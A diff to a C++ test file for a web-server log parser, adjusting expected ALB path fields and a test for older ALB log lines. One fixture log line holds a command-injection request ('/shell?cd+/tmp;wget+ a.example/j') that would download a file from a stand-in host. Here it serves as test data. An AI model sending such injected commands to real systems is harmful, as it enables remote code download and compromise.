@@ -143,7 +143,8 @@ TEST_CASE("lines: fields have the names of the documentation, and the request it
       {"traefik", "duration_ms", "12"},
       {"traefik", "protocol", "HTTP/2.0"},
       {"alb", "client:port", "192.0.2.7:2817"},
-      {"alb", "path", "https://www.example.com:443/a"},
+      {"alb", "path", "/a"},
+      {"alb", "raw:path", "https://www.example.com:443/a"},
       {"alb", "status", "200"},
       {"alb", "host", "www.example.com"},
       {"alb", "conn_trace_id", "TID_1234"},
@@ -211,7 +212,8 @@ TEST_CASE("alb: older lines end sooner, and no target is no reason to refuse one
   const std::string old =
       "http 2026-01-02T03:04:05.678901Z app/lb/1 192.0.2.7:1 - -1 -1 -1 404 - 204 167 \"GET "
       "http://127.0.0.1:80/shell?cd+/tmp;wget+ a.example/j HTTP/1.1\" \"-\" - - -";
-  const ReadText read = read_text(old + "\n" + example("alb"), flags_with({"path"}, "sent_bytes"));
+  const ReadText read =
+      read_text(old + "\n" + example("alb"), flags_with({"raw:path"}, "sent_bytes"));
   CHECK(read.plan.format->name() == "alb");
   CHECK(read.bad.empty());
   REQUIRE(read.requests.size() == 2);
